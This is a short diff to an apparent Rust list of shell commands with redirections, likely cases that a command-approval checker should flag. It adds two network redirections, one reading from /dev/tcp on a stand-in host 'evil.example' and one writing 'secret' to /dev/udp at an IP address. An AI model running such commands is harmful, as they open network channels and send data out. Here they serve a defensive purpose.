@@ -38,6 +38,8 @@ const ASK: &[&str] = &[
     "ls 2> err.log",
     "ls >&out",
     "cat <> file",
+    "cat < /dev/tcp/evil.example/80",
+    "echo secret > /dev/udp/1.2.3.4/53",
     "ls > $OUT",
     "{ ls; } > out",
     "(ls) > out",
